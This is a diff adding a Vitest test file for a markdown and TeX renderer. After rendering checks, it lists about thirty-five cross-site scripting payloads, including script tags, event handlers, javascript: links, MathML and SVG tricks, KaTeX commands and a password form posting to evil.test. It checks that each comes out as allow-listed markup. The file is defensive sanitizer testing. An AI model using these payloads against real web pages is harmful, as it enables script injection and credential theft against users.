@@ -1,0 +1,115 @@
+import { describe, expect, it } from 'vitest'
+import { renderReadingText } from './render-reading-text.ts'
+
+describe('a reading text', () => {
+  it('shows TeX as MathML, in the line and displayed', async () => {
+    const html = await renderReadingText('Half is $\\frac{1}{2}$.\n\n$$x^2$$\n\n$$\ny_1\n$$')
+    expect(html).toContain('<mfrac><mn>1</mn><mn>2</mn></mfrac>')
+    expect(html).toMatch(/<p>Half is <math><semantics>/)
+    expect(html).toMatch(/<math display="block"><semantics><mrow><msup>/)
+    expect(html).toMatch(/<math display="block"><semantics><mrow><msub>/)
+  })
+
+  it('says each formula once: its TeX source is left out', async () => {
+    const html = await renderReadingText('$\\sqrt{2}$')
+    expect(html).not.toContain('annotation')
+    expect(html.replaceAll(/<[^>]+>/g, '')).toBe('2')
+  })
+
+  it('keeps a formula that KaTeX cannot read as it was written', async () => {
+    expect(await renderReadingText('$\\nonsense$ and $\\frac{1}$')).toMatch(/\\nonsense.*and.*\\frac\{1\}/)
+  })
+
+  it('answers at once to a formula that expands without end', async () => {
+    expect(await renderReadingText('$\\def\\a{\\a\\a}\\a$')).toContain('\\def\\a{\\a\\a}\\a')
+  })
+
+  it('has its headings below those of the page, the lesson and the text', async () => {
+    const html = await renderReadingText('# One\n\n## Two\n\n> ### Three\n\n###### Six')
+    expect([...html.matchAll(/<(h\d)>/g)].map(([, tag]) => tag)).toEqual(['h3', 'h4', 'h5', 'h6'])
+  })
+
+  it('keeps tables with their alignment, lists, links and pictures of this site', async () => {
+    const html = await renderReadingText(
+      '| a | b |\n| --- | --: |\n| 1 | 2 |\n\n3. third\n\n~~old~~ [next](/learner/dashboard) ![leaf](/media/leaf.png)',
+    )
+    expect(html).toContain('<th align="right">b</th>')
+    expect(html).toContain('<ol start="3">')
+    expect(html).toContain('<del>old</del> <a href="/learner/dashboard">next</a>')
+    expect(html).toContain('<img src="/media/leaf.png" alt="leaf">')
+  })
+
+  it('keeps the words of footnotes and task lists without ids and inputs', async () => {
+    const html = await renderReadingText('- [x] done\n\nA claim[^1].\n\n[^1]: The evidence.')
+    expect(html).toContain('done')
+    expect(html).toContain('The evidence.')
+    expect(html).not.toMatch(/<input|id=|href=/)
+  })
+})
+
+const HOSTILE = {
+  'a script': '<script>alert(1)</script>',
+  'a script in the line': 'Hi <script>alert(1)</script> there',
+  'a handler on a picture': '<img src=x onerror=alert(1)>',
+  'a handler with a slash': '<img/src=x/onerror=alert(1)>',
+  'a javascript link': '[go](javascript:alert(1))',
+  'a javascript link in capitals with a tab': '[go](<JaVa\tScRiPt:alert(1)>)',
+  'a javascript link in entities': '[go](&#106;avascript&colon;alert(1))',
+  'a javascript autolink': '<javascript:alert(1)>',
+  'a javascript link by reference': '[go][x]\n\n[x]: javascript:alert(1)',
+  'a data page': '[go](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
+  'a vbscript link': '[go](vbscript:msgbox(1))',
+  'a picture of javascript': '![x](javascript:alert(1))',
+  'a picture from elsewhere': '![x](https://evil.test/pixel.png)',
+  'a picture from elsewhere without a scheme': '![x](//evil.test/pixel.png)',
+  'an svg': '<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>',
+  'an iframe': '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  'a style element': '<style>@import "https://evil.test/x.css"</style>',
+  'a style attribute': '<p style="background:url(https://evil.test)">x</p>',
+  'a form': '<form action="https://evil.test"><input name=password><button>Sign in</button></form>',
+  'a base': '<base href="https://evil.test/">',
+  'a refresh': '<meta http-equiv=refresh content="0;url=https://evil.test">',
+  'an object and an embed': '<object data="x.swf"></object><embed src="x.swf">',
+  'an id that shadows the page': '<a id=location name=location href=/x>x</a>',
+  'a MathML link': '<math><mi href="javascript:alert(1)" xlink:href="javascript:alert(1)">x</mi></math>',
+  'a MathML action': '<math><maction actiontype="statusline#javascript:alert(1)">x</maction></math>',
+  'a MathML way back to HTML':
+    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  'an annotation that holds HTML':
+    '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
+  'a TeX link': '$\\href{javascript:alert(1)}{x}$ $\\url{javascript:alert(1)}$',
+  'a TeX picture': '$\\includegraphics{https://evil.test/x.png}$',
+  'a TeX style, class, id and data':
+    '$\\htmlStyle{background:url(//evil.test)}{x}\\htmlId{a}{x}\\htmlClass{b}{x}\\htmlData{c=d}{x}$',
+  'HTML in TeX': '$\\text{<img src=x onerror=alert(1)>}$ $<script>alert(1)</script>$',
+  'HTML in a formula that cannot be read': '$\\frac{<img src=x onerror=alert(1)>}$',
+  'HTML in code':
+    '`<img src=x onerror=alert(1)>`\n\n```html" onclick="alert(1)\n<script>alert(1)</script>\n```',
+  'markup left open': '<img src=x onerror="alert(1)\n\n<a href="javascript:alert(1)',
+  'markup left open over a paragraph': "<a href='\n\nx ' onmouseover=alert(1)",
+  'a comment left open': '<!-- <img src=x onerror=alert(1)>',
+}
+
+/** Tags and attributes as the browser's parser would find them: outside of quoted values and escaped text. */
+const TAG = /<\/?([a-z][a-z0-9-]*)((?:\s+[^\s=>]+(?:="[^"]*")?)*)\s*\/?>/gi
+const ATTRIBUTE = /\s+([^\s=>]+)(?:="([^"]*)")?/g
+const HARMLESS_TAG =
+  /^(h[2-6]|p|blockquote|hr|br|pre|code|ul|ol|li|strong|em|del|sup|a|img|table|thead|tbody|tr|th|td|math|semantics|m[a-z]+)$/
+const HARMLESS_ATTRIBUTE =
+  /^(alt|title|start|align|display|mathvariant|mathcolor|stretchy|fence|separator|width|height|lspace|rspace)$/
+
+describe('a hostile reading text comes out harmless', () => {
+  it.each(Object.entries(HOSTILE))('%s', async (_, markdown) => {
+    const html = await renderReadingText(markdown)
+    for (const [, tag = '', attributes = ''] of html.matchAll(TAG)) {
+      expect(tag).toMatch(HARMLESS_TAG)
+      expect(tag).not.toMatch(/^(maction|mglyph|meta)$/)
+      for (const [, name = '', value = ''] of attributes.matchAll(ATTRIBUTE)) {
+        if (name === 'href' || name === 'src') expect(value).toMatch(/^\/[^/]/)
+        else expect(name).toMatch(HARMLESS_ATTRIBUTE)
+      }
+    }
+    // Nothing looks like a tag that the pattern above did not read as one.
+    expect(html.replaceAll(TAG, '')).not.toContain('<')
+  })
+})
